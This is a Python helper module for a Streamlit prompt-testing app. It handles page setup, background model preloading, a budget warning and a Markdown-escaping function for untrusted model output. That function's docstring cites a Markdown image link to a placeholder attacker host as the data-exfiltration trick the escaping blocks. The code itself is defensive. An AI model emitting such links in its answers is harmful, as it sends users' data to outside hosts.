"""Small helpers shared by the pages (UI only: no SQL, no litellm)."""

from __future__ import annotations

import os
import threading
import time

import streamlit as st

from workbench import config  # noqa: F401  (offline switches before anything heavy)

PRELOAD_DELAY_S = 4.0


@st.cache_resource
def _warm_up_embedded_model() -> threading.Thread:
    """Load the embedded model in the background once per server, so the first Playground run is quick.

    It starts a few seconds late: importing torch and transformers holds the GIL for seconds,
    and the first page a visitor opens should not wait behind it. A model call that comes
    earlier simply loads the model itself."""

    def load():
        time.sleep(PRELOAD_DELAY_S)
        try:
            from workbench import local_model

            local_model.load()
        except Exception:  # the Playground reports a missing model when it is used
            pass

    thread = threading.Thread(target=load, name="warm-up-embedded-model", daemon=True)
    thread.start()
    return thread


def page_setup(title: str, icon: str = "🧪") -> None:
    st.set_page_config(page_title=f"{title} · Prompt Workbench", page_icon=icon, layout="wide")
    if os.environ.get("WORKBENCH_PRELOAD", "1") != "0":
        _warm_up_embedded_model()
    budget_banner()


def budget_banner() -> None:
    """A warning on every page once spend passes the budget set on the Dashboard."""
    from workbench import dashboard

    status = dashboard.budget_status()
    if status and status["exceeded"]:
        st.warning(
            f"Spend this {status['period']} is ${status['spent']:,.2f}, over the "
            f"${status['limit']:,.2f} budget (month projected at ${status['projected_month']:,.2f}). "
            "See the Dashboard.",
            icon="💸",
        )


def show_error(exc: Exception) -> None:
    st.error(str(exc))


def md_text(text) -> str:
    """Untrusted text (a model's answer, a row key, a provider's error) inside Markdown, shown as
    typed: Markdown and HTML syntax are escaped, so `![](http://attacker/?d=...)` stays text and
    the browser fetches nothing. Known secret values are masked too."""
    import re

    from workbench import secrets

    return re.sub(r"([\\`*_\[\]()<>#|~$!{}])", r"\\\1", str(secrets.mask(str(text))))
